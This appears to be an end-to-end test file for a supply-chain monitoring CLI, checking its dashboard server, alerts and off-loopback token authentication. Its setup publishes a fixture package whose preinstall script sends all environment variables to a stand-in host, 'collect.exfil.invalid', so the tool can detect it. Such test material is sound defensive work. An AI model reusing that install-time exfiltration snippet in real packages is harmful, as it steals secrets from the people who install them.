/**
 * `vigil serve` through the real CLI over a store filled by the real CLI: `vigil scan` of a project
 * against a registry on 127.0.0.1, then `vigil watch --once` before and after a release with an
 * install-time exfiltration. The server shows the stored scan and the one alert; SIGTERM stops it
 * with exit 0. Bound off loopback, it generates a token, shows it exactly once, and refuses requests
 * without it.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BIN, runCli } from '../helpers/run-cli.js';
import { publish } from '../helpers/publish.js';
import { startRegistryServer, type RegistryServer } from '../helpers/registry-server.js';

let tmp: string;
let project: string;
let reg: RegistryServer;
const store = () => join(tmp, 'store.db');
const cli = (args: string[]) => runCli([...args, '--registry', reg.url, '--store', store()], { cwd: tmp, home: tmp });

interface Serving {
  child: ChildProcess;
  url: string;
  stderr: () => string;
  stop(): Promise<number | null>;
}

/** Starts `vigil serve` and waits for the line with its address. */
function serve(args: string[], env: NodeJS.ProcessEnv = {}): Promise<Serving> {
  const child = spawn(process.execPath, [BIN, 'serve', '--port', '0', '--store', store(), ...args], {
    cwd: tmp,
    env: { ...process.env, CI: '1', NO_COLOR: '1', HOME: tmp, XDG_CACHE_HOME: join(tmp, '.cache'), ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let err = '';
  let started = false;
  return new Promise((resolve, reject) => {
    child.on('exit', (code) => reject(new Error(`vigil serve exited ${code}: ${err}`)));
    child.stderr!.on('data', (c: Buffer) => {
      err += c.toString('utf8');
      const m = /dashboard at (http:\/\/\S+?:\d+\/)/.exec(err);
      if (!started && m && err.includes('\n', m.index)) {
        started = true;
        child.removeAllListeners('exit');
        const exited = new Promise<number | null>((r) => child.on('exit', (code) => r(code)));
        resolve({
          child,
          url: m[1]!.replace('0.0.0.0', '127.0.0.1'),
          stderr: () => err,
          stop: () => {
            child.kill('SIGTERM');
            return exited;
          },
        });
      }
    });
  });
}

before(async () => {
  tmp = mkdtempSync(join(tmpdir(), 'vigil-serve-e2e-'));
  reg = await startRegistryServer();
  const { integrity } = await publish(reg, { name: 'tiny-dep', version: '1.0.0', files: { 'index.js': 'module.exports = 2;\n' } });
  project = join(tmp, 'served-app');
  mkdirSync(project);
  writeFileSync(
    join(project, 'package.json'),
    JSON.stringify({ name: 'served-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } }),
  );
  writeFileSync(
    join(project, 'package-lock.json'),
    JSON.stringify({
      name: 'served-app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': { name: 'served-app', version: '1.0.0', dependencies: { 'tiny-dep': '^1.0.0' } },
        'node_modules/tiny-dep': { version: '1.0.0', resolved: `${reg.url}tiny-dep/-/tiny-dep-1.0.0.tgz`, integrity },
      },
    }),
  );
  const scan = await cli(['scan', project, '--format', 'json']);
  assert.ok(scan.code === 0 || scan.code === 1, scan.stderr);
  const baseline = await cli(['watch', '--once']);
  assert.equal(baseline.code, 0, baseline.stderr);
  await publish(reg, {
    name: 'tiny-dep',
    version: '1.0.1',
    files: {
      'index.js': 'module.exports = 2;\n',
      'setup.js': [
        "const https = require('https');",
        "const data = Buffer.from(JSON.stringify(process.env)).toString('base64');",
        "const req = https.request({ hostname: 'collect.exfil.invalid', path: '/c', method: 'POST' });",
        'req.write(data);',
        'req.end();',
      ].join('\n'),
    },
    scripts: { preinstall: 'node setup.js' },
  });
  const alerted = await cli(['watch', '--once']);
  assert.equal(alerted.stdout.trim().split('\n').length, 1, alerted.stdout + alerted.stderr);
});
after(async () => {
  await reg.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('vigil serve (real CLI)', { timeout: 300_000 }, () => {
  test('shows the stored scan and the alert from watch, and stops cleanly on SIGTERM', async () => {
    const s = await serve([]);
    try {
      assert.match(s.url, /^http:\/\/127\.0\.0\.1:\d+\/$/);
      const projects = (await (await fetch(`${s.url}api/projects`)).json()) as { projects: { id: string; path: string }[] };
      assert.deepEqual(
        projects.projects.map((p) => p.path),
        [project],
      );
      const view = (await (await fetch(`${s.url}api/projects/${projects.projects[0]!.id}/view`)).json()) as {
        view: { components: { name: string; version: string }[] };
      };
      assert.ok(view.view.components.some((c) => c.name === 'tiny-dep' && c.version === '1.0.0'));
      const alerts = (await (await fetch(`${s.url}api/alerts`)).json()) as { alerts: { id: string; exposed: { project: string }[] }[] };
      assert.deepEqual(
        alerts.alerts.map((a) => a.id),
        ['npm:tiny-dep@1.0.1:new-version'],
      );
      assert.equal(alerts.alerts[0]!.exposed[0]!.project, project);
      assert.doesNotMatch(s.stderr(), /token/);
    } finally {
      assert.equal(await s.stop(), 0);
    }
  });

  test('off loopback a token is generated, shown once, and required', async () => {
    const s = await serve(['--host', '0.0.0.0']);
    try {
      while (!s.stderr().includes('shown once')) await new Promise((r) => setTimeout(r, 50));
      const m = /\?token=([A-Za-z0-9_-]+) \(this link is shown once\)/.exec(s.stderr());
      assert.ok(m, s.stderr());
      const token = m[1]!;
      assert.equal(s.stderr().split(token).length, 2, 'the token appears exactly once');
      assert.equal((await fetch(`${s.url}api/projects`)).status, 401);
      assert.equal((await fetch(`${s.url}api/projects`, { headers: { authorization: `Bearer ${token}` } })).status, 200);
    } finally {
      assert.equal(await s.stop(), 0);
    }
  });

  test('bad flags are usage errors', async () => {
    const r = await runCli(['serve', '--port', '70000', '--store', store()], { cwd: tmp, home: tmp });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /--port/);
    const short = await runCli(['serve', '--port', '0', '--store', store()], { cwd: tmp, home: tmp, env: { VIGIL_SERVE_TOKEN: 'short' } });
    assert.equal(short.code, 2, short.stderr);
  });
});
